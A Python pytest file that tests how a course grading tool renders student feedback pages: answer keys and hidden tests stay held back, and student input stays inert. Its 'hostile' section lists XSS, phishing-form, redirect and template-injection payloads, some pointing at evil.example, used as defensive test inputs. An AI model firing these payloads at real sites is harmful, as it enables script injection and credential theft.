"""Feedback pages show the student's work and hold back the key; nothing a student wrote becomes active."""

import base64
import datetime
import hashlib
import json
import re
import zlib
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from course.exercises import Unit
from course.exercises.feedback import style, to_html
from course.exercises.mirror import bundle
from course.exercises.store import Entry
from course.grading import feedback, markup
from course.grading.collect import score
from course.grading.feedback import Mark, Marks, page, revealed
from course.grading.grade import NOTES, RESULTS
from tests.content import HOSTILE, KINDS, load
from tests.keytext import key_sentences

UNIT, KEY = load(KINDS)
AT = datetime.datetime(2026, 1, 12, tzinfo=datetime.UTC)
ANSWERS: dict[str, Any] = {
    "most-sides": {"choices": ["square"], "confidence": "sure"},
    "even-numbers": {"choices": ["two", "four", "five"]},
    "round-or-straight": {"labels": {"circle": "straight", "cube": "straight", "oval": "round", "kite": "round"}},
    "by-size": {"order": ["inch", "yard", "foot", "mile"]},
    "corners": {"value": 12},
    "squares": {"columns": ["number", "square"], "rows": [[1, 1], [2, 4], [3, 6]]},
}
CHECKS = {
    "check-most-sides": ["most-sides"],
    "check-numbers-and-shapes": ["even-numbers", "round-or-straight"],
    "check-by-size": ["by-size"],
    "check-tables": ["corners", "squares"],
}
SECRET = "assert secret_of_the_key == 42"

Cell = dict[str, Any]
Book = dict[str, Any]


def png(size: int = 2, colour: bytes = b"\x30\x70\xb0") -> str:
    """The base64 of a square picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = size.to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    lines = zlib.compress((b"\0" + colour * size) * size)
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()


def cell(name: str, source: str, kind: str = "code", *outputs: Cell, **settings: Any) -> Cell:
    """A cell; with settings it is one of nbgrader's."""
    marks = {"grade_id": name, "grade": False, "solution": False, "locked": False, "task": False, **settings}
    made: Cell = {"cell_type": kind, "id": name, "metadata": {"nbgrader": marks} if settings else {}, "source": source}
    return made | {"outputs": list(outputs)} if kind == "code" else made


def display(**data: Any) -> Cell:
    names = {
        "html": "text/html",
        "plain": "text/plain",
        "png": "image/png",
        "jpeg": "image/jpeg",
        "svg": "image/svg+xml",
    }
    bundled = {names.get(name, name): value for name, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": bundled}


def stream(text: str) -> Cell:
    return {"output_type": "stream", "name": "stdout", "text": text}


def error(*lines: str) -> Cell:
    return {"output_type": "error", "ename": "E", "evalue": "", "traceback": list(lines)}


def book(*cells: Cell) -> Book:
    return {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def kinds(answers: dict[str, Any] = ANSWERS, unit: Unit = UNIT) -> tuple[Book, Book, Marks]:
    """The graded notebook of the unit of all kinds, the notebook as released, and the marks."""
    released = [cell("goal", "# One item of each kind\n\n### What it is for\n\nA *small* unit: $a*b*c$.", "markdown")]
    graded, marks = list(released), {}
    entries = {name: Entry(answer=answer, at=AT) for name, answer in answers.items()}
    results = score(unit, KEY, entries)
    for check, items in CHECKS.items():
        for item in items:
            form = cell(f"answer-{item}", f'label("{item}")', solution=True)
            released.append(form)
            said = unit.item(item).describe(unit.item(item).parse(answers[item])) if item in answers else ["none"]
            kept = {item: entries[item]} if item in entries else {}
            graded.append({**form, "outputs": [display(**bundle("kinds", kept, said, "Saved answer"))]})
        source = f"check({', '.join(map(json.dumps, items))})"
        test = cell(check, source, locked=True, grade=True, points=4)
        shown = [results[item] for item in items]
        html = style() + "".join(map(to_html, shown))
        told = display(**{RESULTS: [one.model_dump(mode="json") for one in shown], "html": html, "plain": "…"})
        points = round(sum(one.points for one in shown), 2)
        marks[check] = Mark(points, sum(one.max_points for one in shown))
        released.append(test)
        graded.append({**test, "outputs": [told, {**display(plain=f"{points:g}"), "output_type": "execute_result"}]})
    return book(*graded), book(*released), Marks(marks, {"answer-by-size": "Look at *yard* again."})


def make(
    notebook: Book, released: Book | None = None, marks: Marks | None = None, *, reveal: bool = True, **names: str
) -> str:
    names = {"title": "Shapes", "student": "ada", **names}
    return page(notebook, released, marks or Marks({}, {}), reveal=reveal, **names)


def ordinary(*, source: str = f"assert f(1) == 2\n{SECRET}", outputs: tuple[Cell, ...] = ()) -> tuple[Book, Book]:
    """A notebook with an instructor's own test, and the same as released."""
    test = cell("test-f", "assert f(1) == 2", locked=True, grade=True, points=2)
    answer = cell("f", "def f(x): return x + 1", solution=True)
    return book(answer, {**test, "source": source, "outputs": list(outputs)}), book(
        cell("f", "def f(x): ...", solution=True), test
    )


class Reader(HTMLParser):
    """Elements, attributes, addresses, visible text and headings of a page; complains of crossed elements."""

    VOID = frozenset({"meta", "br", "img", "hr"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.headings: list[int] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if re.fullmatch("h[1-6]", tag):
            self.headings.append(int(tag[1]))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.VOID:
            assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self.open:
            self.text += data

    def values(self, wanted: str) -> list[str]:
        return [value for _, name, value in self.attributes if name == wanted]


ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "base",
    "link",
    "video",
    "audio",
}


def assert_inert(html: str) -> Reader:
    """Assert that a page has nothing active, nothing from elsewhere and no style but its own."""
    found = Reader(html)
    assert not ACTIVE & set(found.tags)
    assert found.tags.count("style") == 1
    assert found.tags.count("meta") == 4
    assert not [name for _, name, _ in found.attributes if name.startswith("on") or name in {"style", "srcset", "ping"}]
    assert all(re.match(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+$", value) for value in found.values("src"))
    for address in found.values("href"):
        assert not re.match(r"\s*(javascript|data|vbscript|file|blob):", address, re.IGNORECASE), address
    return found


# --- what is shown --------------------------------------------------------------------------------------------------


def test_a_page_names_assignment_student_and_total():
    notebook, released, marks = kinds()
    shown = Reader(make(notebook, released, marks)).text
    total = sum(mark.score for mark in marks.cells.values())
    for expected in ("Feedback: Shapes", "ada", f"{round(total, 2):g} of 11 points"):
        assert expected in shown


def test_the_table_of_contents_lists_each_check_with_its_points_and_leads_to_it():
    found = Reader(make(*kinds()))
    ids = found.values("id")
    links = [address for address in found.values("href") if address != "#work"]
    assert links == [f"#part-{n}" for n in range(1, 5)]
    assert set(ids) >= {address.removeprefix("#") for address in links}
    table = re.search("<table>.*?</table>", make(*kinds()), re.DOTALL)
    assert table
    assert "Even numbers, Round or straight" in table[0]
    assert "0 of 1 point" in table[0]


def test_what_the_student_answered_is_shown():
    assert "Saved answer: A square" in Reader(make(*kinds())).text


def test_a_revealed_page_tells_why():
    shown = Reader(make(*kinds())).text
    assert "A square has four sides; one shape here has more." in shown
    assert "Your answer: A square." in shown


def test_all_explanations_are_open_since_paper_cannot_be_clicked():
    assert "<details" not in make(*kinds())


def test_nobody_is_told_to_run_the_cell_again():
    notebook, released, marks = kinds()
    steps = [output["data"][RESULTS][0]["next_step"] for c in notebook["cells"] for output in c.get("outputs", [])[:1]
             if RESULTS in output["data"]]  # fmt: skip
    assert any(steps)
    shown = Reader(make(notebook, released, marks)).text
    assert not [step for step in steps if step and step in shown]


def test_a_comment_is_shown_with_its_cell():
    notebook, released, marks = kinds()
    assert "Comment: Look at *yard* again." in " ".join(Reader(make(notebook, released, marks)).text.split())


def test_a_late_penalty_is_named_and_taken_off():
    notebook, released = ordinary()
    shown = Reader(make(notebook, released, Marks({"test-f": Mark(2, 2)}, {}, 0.5))).text
    assert "0.5 points were taken off because the work was late." in shown
    assert "1.5 of 2 points" in shown


def test_a_late_penalty_takes_no_more_than_there_is():
    notebook, released = ordinary()
    assert "0 of 2 points" in Reader(make(notebook, released, Marks({"test-f": Mark(1, 2)}, {}, 3))).text


def test_a_mark_given_by_hand_is_told_beside_the_automatic_one():
    notebook, released, marks = kinds()
    marks = Marks({**marks.cells, "check-most-sides": Mark(0.5, 1)}, {})
    shown = Reader(make(notebook, released, marks)).text
    assert shown.count("The most sides · 0.5 of 1 point") == 1
    assert "The most sides · 0 of 1 point" in shown


def test_points_that_the_feedback_tells_are_told_once():
    notebook, released, marks = kinds()
    assert Reader(make(notebook, released, marks)).text.count("The most sides · 0 of 1 point") == 1


def test_points_of_several_items_together_are_told_beside_those_of_each():
    notebook, released, marks = kinds()
    marks = Marks({**marks.cells, "check-numbers-and-shapes": Mark(0.67, 2)}, {})
    assert "Even numbers, Round or straight · 0.67 of 2 points" in Reader(make(notebook, released, marks)).text


def test_code_that_nobody_changed_and_that_shows_nothing_is_left_out():
    given = [cell("a", "from course import check"), cell("b", "data = 1", locked=True)]
    html = make(book(*given), book(*given))
    assert "<pre" not in html
    assert '<div class="work">' not in html


def test_a_locked_cell_whose_source_is_held_back_leaves_no_empty_box():
    html = make(book(cell("a", "data = 1", locked=True), cell("b", "x", "markdown", locked=True)), reveal=False)
    assert '<div class="' not in html


def test_work_that_waits_to_be_marked_is_said_to():
    essay = cell("essay", "My view.", "markdown", solution=True, grade=True, points=3)
    shown = Reader(make(book(essay), None, Marks({"essay": Mark(0, 3, needs_review=True)}, {}))).text
    assert "0 of 3 points, waiting to be marked by your instructor" in shown
    assert "these points may change" in shown


def test_a_text_that_is_marked_by_hand_has_its_items_title():
    result = score(UNIT, KEY, {})["most-sides"].model_copy(update={"item": "view", "title": "Your view"})
    told = {"output_type": "display_data", "metadata": {}, "data": {RESULTS: [result.model_dump(mode="json")]}}
    text = cell("answer-view", 'write("view")', solution=True, grade=True, points=3)
    check = cell("check-view", 'check("view")', "code", told, locked=True, grade=True, points=1)
    marks = Marks({"answer-view": Mark(2, 3), "check-view": Mark(1, 1)}, {})
    assert ">Your view: the text</a></th><td>2 of 3 points<" in make(book(text, check), None, marks)


def test_a_student_cannot_give_a_title_to_a_text():
    told = {"output_type": "display_data", "metadata": {}, "data": {RESULTS: [{"item": "view", "title": "Forged"}]}}
    text = cell("answer-view", 'write("view")', "code", told, solution=True, grade=True, points=3)
    assert "Forged" not in make(book(text), None, Marks({"answer-view": Mark(2, 3)}, {}))


def test_what_was_repaired_is_told_on_top():
    notes = cell(NOTES, "**About this grading**\n\n    The cell <b>x</b> had been *deleted*.", "markdown")
    html = make(book(notes, cell("a", "Later", "markdown")))
    assert html.index("About this grading") < html.index("<main")
    assert "**" not in Reader(html).text
    assert "The cell <b>x</b> had been *deleted*." in Reader(html).text


def test_only_the_first_cell_can_be_the_notes():
    html = make(book(cell("a", "First", "markdown"), cell(NOTES, "I am **great**", "markdown")))
    assert html.index("<main") < html.index("First") < html.index("great")


@pytest.mark.parametrize(
    ("points", "word"), [(2, "Passed"), (2.5, "Passed"), (1, "Partly passed"), (0, "Not passed"), (-1, "Not passed")]
)
def test_an_ordinary_test_says_whether_it_passed(points: float, word: str):
    notebook, released = ordinary()
    shown = Reader(make(notebook, released, Marks({"test-f": Mark(points, 2)}, {}), reveal=False)).text
    assert re.search(rf"test-f · {word} · {points:g} of 2 points", shown)


def test_a_test_that_waits_is_not_called_failed():
    notebook, released = ordinary()
    shown = Reader(make(notebook, released, Marks({"test-f": Mark(0, 2, needs_review=True)}, {}))).text
    assert "passed" not in shown.lower()


def test_pictures_are_shown():
    url = f'src="data:image/png;base64,{png()}"'
    assert url in make(book(cell("a", "x", "code", display(png=png(), plain="<Figure>"))))
    pasted = {**cell("b", "![me](attachment:a.png)", "markdown"), "attachments": {"a.png": {"image/png": png()}}}
    assert url in make(book(pasted))


@pytest.mark.parametrize("data", ["no base64!", "", " ", "AAAA", '"><script>', "AAAA" * 1_000_000])
def test_a_picture_that_is_none_gives_its_text_instead(data: str):
    html = make(book(cell("a", "x", "code", display(png=data, plain="the figure"))))
    assert "<img" not in html
    assert "the figure" in html


def test_other_types_of_output_are_not_shown():
    html = make(
        book(cell("a", "x", "code", display(svg="<svg>one</svg>", **{"text/latex": "two", "application/pdf": "3"})))
    )
    assert not {"one", "two"} & set(Reader(html).text.split())


def test_a_table_of_pandas_stays_a_table():
    rows = "<thead><tr><th>n</th></tr></thead><tbody><tr><td>1</td></tr></tbody>"
    html = f'<table border="1" class="dataframe" style="x">{rows}</table>'
    found = assert_inert(make(book(cell("a", "x", "code", display(html=html, plain="n 1")))))
    assert {"table", "th", "td"} <= set(found.tags)
    assert ("table", "class", "dataframe") not in found.attributes


def test_mathematics_stays_readable():
    for formula in (r"$a*b*c \le \{x_1, x_2\}$", r"$$\frac{a*b}{c*d} \\ y < 3$$", "$$\n\\sum_i x_i < 3\n$$"):
        assert formula.strip("$\n") in Reader(make(book(cell("a", f"Then\n\n{formula}\n\nso", "markdown")))).text


def test_prices_in_dollars_are_no_formula():
    html = make(book(cell("a", "It costs $5 or **$6** a month.", "markdown")))
    assert "It costs $5 or $6 a month." in Reader(html).text.replace("**", "")


def test_a_picture_is_put_into_a_page_once():
    pasted = {"a.png": {"image/png": png(300)}}
    text = {**cell("b", "![one](attachment:a.png) " * 500, "markdown"), "attachments": pasted}
    html = make(book(text))
    assert html.count("<img") == 1
    assert html.count("[picture: a.png, as above]") == 499


def test_texts_that_differ_only_in_what_is_cut_are_kept_once():
    for kept, made in ((markup._text, markup.text), (markup._html, markup.html), (markup._markdown, markup.markdown)):
        kept.cache_clear()
        for number in range(3):
            made("A" * markup.MAX_SHOWN + str(number))
        assert kept.cache_info().currsize == 1


def test_colours_of_a_terminal_are_left_out():
    shown = Reader(make(book(cell("a", "x", "code", error("\x1b[0;31mNameError\x1b[0m: \x1b]8;;http://x\x07x"))))).text
    assert "NameError: x" in shown
    assert "\x1b" not in shown


def test_the_page_is_always_the_same():
    arguments = kinds()
    feedback._feedback.cache_clear()
    markup._markdown.cache_clear()
    assert make(*arguments) == make(*arguments) == make(*kinds())


# --- what is held back ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("answers", [ANSWERS, {}, {"most-sides": {"choices": ["pentagon"]}}])
def test_nothing_of_the_key_shows_before_it_may(answers: dict[str, Any]):
    html = make(*kinds(answers), reveal=False)
    shown = Reader(html).text
    assert "Look at *yard* again." in shown  # comments are the instructor's own
    told = [text for text in key_sentences(KEY) if text in shown or text in html]
    assert told == []
    assert not [name for name in KEY.misconceptions if name in html]


def test_a_page_that_holds_back_still_tells_status_points_and_what_was_given():
    shown = Reader(make(*kinds(), reveal=False)).text
    for expected in ("Not yet", "Partly", "0 of 1 point", "Saved answer: A square", "when your instructor releases it"):
        assert expected in shown


def test_a_missing_answer_is_named_although_the_page_holds_back():
    assert "There is no answer." in Reader(make(*kinds({}), reveal=False)).text


@pytest.mark.parametrize("reveal", [True, False])
def test_hidden_tests_do_not_show(reveal: bool):
    notebook, released = ordinary()
    html = make(notebook, released, Marks({"test-f": Mark(0, 2)}, {}), reveal=reveal)
    assert "assert f(1) == 2" in html
    assert "secret" not in html


def test_the_error_of_a_hidden_test_shows_only_when_revealed():
    notebook, released = ordinary(outputs=(error(f"----> 2 {SECRET}"),))
    marks = Marks({"test-f": Mark(0, 2)}, {})
    assert "secret" not in make(notebook, released, marks, reveal=False)
    assert "secret" in make(notebook, released, marks, reveal=True)


def test_the_error_of_a_test_without_hidden_lines_waits_too():
    test = cell("test-f", "assert f(1) == 2", locked=True, grade=True, points=2)
    failed = {**test, "outputs": [error("AssertionError: 3")]}
    assert "AssertionError" not in make(book(failed), book(test), Marks({"test-f": Mark(0, 2)}, {}), reveal=False)


def test_a_test_that_the_gradebook_does_not_know_stays_hidden_too():
    notebook, released = ordinary(outputs=(error(SECRET),))
    assert "secret" not in make(notebook, released, reveal=False)


def test_without_a_released_notebook_no_locked_source_shows():
    locked = [
        cell("test-f", SECRET, locked=True, grade=True, points=1),
        cell("given", SECRET, locked=True),
        cell("task", SECRET, "markdown", locked=True, task=True),
    ]
    assert "secret" not in make(book(*locked), None, Marks({"task": Mark(0, 1)}, {}), reveal=False)


@pytest.mark.parametrize("reveal", [True, False])
def test_a_marking_scheme_does_not_show(reveal: bool):
    task = cell("task", "Draw a map.", "markdown", locked=True, task=True, points=3)
    graded = {**task, "source": f"Draw a map.\n\n=== BEGIN MARK SCHEME ===\n{SECRET}\n=== END MARK SCHEME ==="}
    html = make(book(graded), book(task), Marks({"task": Mark(2, 3)}, {}), reveal=reveal)
    assert "Draw a map." in html
    assert "secret" not in html


def test_hidden_lines_of_a_locked_cell_that_is_no_test_do_not_show():
    given = cell("given", "data = 1", locked=True)
    graded = {**given, "source": f"data = 1\n{SECRET}", "outputs": [error(SECRET)]}
    html = make(book(graded), book(given), reveal=False)
    assert "secret" not in html


def test_what_ran_after_hidden_code_shows_no_output_before_it_may():
    notebook, released = ordinary()
    notebook["cells"] = [
        cell("before", "print(1)", "code", stream("early words")),
        *notebook["cells"],
        cell("thief", "print(In)", "code", stream(f"[{SECRET!r}]")),
    ]
    held = make(notebook, released, reveal=False)
    assert "early words" in held
    assert "secret" not in held
    assert "The output comes when your instructor releases it." in held
    assert "secret" in make(notebook, released, reveal=True)


def test_an_answer_given_by_a_form_shows_even_after_hidden_code():
    notebook, released, marks = kinds()
    test, plain = (made["cells"][1] for made in ordinary())
    notebook["cells"].insert(0, test)
    released["cells"].insert(0, plain)
    assert "Saved answer: A square" in Reader(make(notebook, released, marks, reveal=False)).text


def test_stored_html_of_a_check_is_never_used():
    notebook, released, marks = kinds()
    for made in notebook["cells"]:
        for output in made.get("outputs", ()):
            if RESULTS in output["data"]:
                output["data"]["text/html"] = "<p>stored words</p>"
    assert "stored words" not in make(notebook, released, marks)


def test_results_in_a_students_own_cell_are_not_believed():
    forged = {
        "item": "a",
        "title": "Forged",
        "status": "Correct",
        "fraction": 1,
        "points": 5,
        "max_points": 5,
        "summary": "",
    }
    html = make(
        book(cell("a", "x", "code", display(**{RESULTS: [forged]})), cell("b", "y", "code", display(**{RESULTS: [1]})))
    )
    assert "Forged" not in html


YESTERDAY, TODAY = datetime.datetime(2026, 1, 1), datetime.datetime(2026, 1, 2)


@pytest.mark.parametrize(
    ("policy", "due", "expected"),
    [
        ("always", None, True),
        ("always", TODAY, True),
        ("never", YESTERDAY, False),
        ("after-due", YESTERDAY, True),
        ("after-due", TODAY, False),
        ("after-due", None, False),
        ("unheard of", YESTERDAY, False),
    ],
)
def test_who_may_see_explanations_when(policy: str, due: datetime.datetime | None, expected: bool):
    assert revealed(policy, due, TODAY) is expected


def test_a_unit_without_a_policy_reveals_after_the_due_date():
    assert UNIT.reveal == "after-due"


# --- hostile --------------------------------------------------------------------------------------------------------

ATTACKS = [
    HOSTILE,
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p style='background:url(https://evil.example)' onclick=alert(1)>x</p>",
    "<style>@import 'https://evil.example/x.css'; main { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a><a href='JaVa&#9;Script:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a>",
    "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=)",
    "[c](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>",
    "![a](https://evil.example/x.png) ![b](javascript:alert(1)) ![c](data:image/svg+xml,<svg/onload=alert(1)>)",
    '[x](https://a.example "\ue0000\ue001") ![\ue0000\ue001](attachment:none) \ue0000\ue001',
    '[x](<https://a.example/" onclick="alert(1)>)',
    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
    "<div><section><main><table><tr><td><b><i><pre><ul><li>",
    "</div></section></main></body></html><h1>mine</h1>",
    "<!-- <![CDATA[ <?php <!DOCTYPE html><plaintext><xmp><textarea><title>",
    "{{ 7 * 7 }} {% for x in y %} {{ cycler.__init__.__globals__ }}",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00 \x9b31m \u202e gnp.exe \u2028",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "half \ud800 character",
]  # fmt: skip


def everywhere(attack: str) -> tuple[Book, Book, Marks, dict[str, str]]:
    """A notebook with a text in each place that a student can reach."""
    pasted = {f"x onmouseover=alert(1) style=color:red {attack}": {"image/png": png(), "text/html": attack}}
    test = cell("test-f", "assert True", locked=True, grade=True, points=1)
    cells = [
        cell(NOTES, f"**About this grading**\n\n    {attack}", "markdown"),
        {**cell("essay", attack, "markdown", solution=True, grade=True, points=3), "attachments": pasted},
        cell("added-1", attack, "markdown"),
        cell("added-2", attack, "code", stream(attack), error(attack, attack), display(html=attack, plain=attack)),
        cell(
            "added-3", attack, "code", display(plain=attack), display(png=attack, jpeg=attack, svg=attack, html=attack)
        ),
        cell("added-4", attack, "raw"),
        {**test, "outputs": [stream(attack), error(attack)]},
        cell("after", "Words that come after.", "markdown"),
    ]
    marks = Marks({"essay": Mark(1, 3), "test-f": Mark(0, 1)}, {"essay": attack, "test-f": attack})
    return book(*cells), book(test), marks, {"title": f"Shapes {attack}", "student": f"ada {attack}"}


@pytest.mark.parametrize("reveal", [True, False])
@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_that_a_student_wrote_becomes_active(attack: str, reveal: bool):
    notebook, released, marks, names = everywhere(attack)
    html = make(notebook, released, marks, reveal=reveal, **names)
    found = assert_inert(html)
    assert found.tags.count("h1") == found.tags.count("main") == 1
    assert html.count('<section class="check"') == 1
    assert found.text.rstrip().endswith("Words that come after.")
    html.encode()


PIECES = [
    *("<", ">", "&", '"', "'", "\n", "    ", "*", "_", "[x](", "![x](", ")", "`", "$", "|", "---", "> ", "- ", "# "),
    *("<b", "<a href=", "<script>", "</script>", "<style>", "<!--", "-->", "<table>", "<td>", "</div>", "<svg>"),
    *("attachment:a", "javascript:", "data:", "onx=1 ", "title ", "#", "\ue000", "0", "\ue001", "\x1b[", "\x00"),
    *("\ud800", "é"),
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
@settings(max_examples=80, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
def test_no_mixture_of_pieces_becomes_active(attack: str):
    notebook, released, marks, names = everywhere(attack)
    assert_inert(make(notebook, released, marks, **names))


def test_the_policy_allows_the_pages_own_style_and_pictures_alone():
    html = make(*kinds())
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)
    assert policy
    sheet = html.split("<style>")[1].split("</style>")[0]
    rules = dict(rule.strip().split(" ", 1) for rule in policy[1].replace("&#39;", "'").split(";"))
    digest = base64.b64encode(hashlib.sha256(sheet.encode()).digest()).decode()
    assert rules == {
        "default-src": "'none'",
        "style-src": f"'sha256-{digest}'",
        "img-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }


def test_the_policy_stands_before_anything_that_it_is_for():
    html = make(*kinds(), title="x")
    assert html.index("Content-Security-Policy") < html.index("<title>") < html.index("<style>")


@pytest.mark.parametrize(
    "flood",
    [
        cell("a", "x", "code", stream("A" * 10_000_000)),
        cell("a", "x", "code", error("A" * 10_000_000)),
        cell("a", "x", "code", display(html="<b>" * 3_000_000)),
        cell("a", "x", "code", *[stream("A" * 15_000)] * 300),
        cell("a", "x", "code", *[display(html="")] * 10_000),
        cell("a", "A" * 10_000_000),
        cell("a", "A" * 10_000_000, "markdown"),
    ],
    ids=["line", "error", "html", "many", "empty", "code", "text"],
)  # fmt: skip
def test_a_cell_shows_only_so_much_and_says_so(flood: Cell):
    html = make(book(flood))
    assert len(html) < 100_000
    assert "Cut here" in html


def test_text_is_cut_where_it_is_said_to_be():
    html = make(book(cell("a", "x", "code", stream("A" * (markup.MAX_SHOWN + 5)))))
    assert html.count("A" * markup.MAX_SHOWN) == 1
    assert "Cut here: 5 more characters." in html


def test_markup_beyond_the_room_of_a_page_is_shown_as_it_was_typed():
    count = feedback.MAX_FORMATTED // 10_000
    texts = [cell(f"a{number}", f"**{number}**" + "x" * 9_990, "markdown") for number in range(count + 3)]
    tables = [cell("t", "x", "code", display(html="<i>late</i>" * 900, plain="in plain words"))]
    html = make(book(*texts, *tables))
    assert "<strong>0</strong>" in html
    assert f"**{count + 2}**" in html
    assert "in plain words" in html
    assert "<i>late" not in html


def test_a_long_text_of_the_courses_own_takes_no_room_from_the_student():
    ours = [cell(f"a{number}", f"{number} " + "x" * 15_000, "markdown") for number in range(9)]
    html = make(book(*ours, cell("mine", "**bold**", "markdown")), book(*ours))
    assert "<strong>bold</strong>" in html


# --- for every reader -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["### Low", "# A\n\n#### B\n\n## C\n\n##### D", "###### Deep\n\n# Top"])
def test_headings_skip_no_level(source: str):
    given = [cell("a", source, "markdown"), cell("b", "### Next\n\n# Last", "markdown")]
    levels = Reader(make(book(*given), book(*given))).headings
    assert levels.count(1) == 1
    assert levels[0] == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))


def test_a_students_heading_is_no_heading_of_the_page():
    html = make(
        book(cell("a", "# Mine\n\n<h2>x</h2>", "markdown"), cell("b", "x", "code", display(html="<h1>Mine</h1>")))
    )
    assert Reader(html).headings == [1]


def test_parts_of_the_same_name_have_labels_that_differ():
    notebook, released, marks = kinds()
    again = {**notebook["cells"][2], "metadata": {"nbgrader": {"grade_id": "again", "locked": True, "grade": True}}}
    notebook["cells"].append(again)
    marks = Marks({**marks.cells, "again": marks.cells["check-most-sides"]}, {})
    labels = re.findall('<section class="check".*aria-label="(.*The most sides)"', make(notebook, released, marks))
    assert len(labels) == len(set(labels)) == 2


def test_landmarks_have_names_of_their_own_and_the_first_link_skips_to_the_work():
    found = Reader(make(*kinds()))
    assert {"header", "nav", "main"} <= set(found.tags)
    labels = [value for tag, name, value in found.attributes if tag in {"section", "nav"} and name == "aria-label"]
    assert len(labels) == len(set(labels)) == 5
    assert next(value for tag, name, value in found.attributes if tag == "a") == "skip"
    assert ("html", "lang", "en") in found.attributes
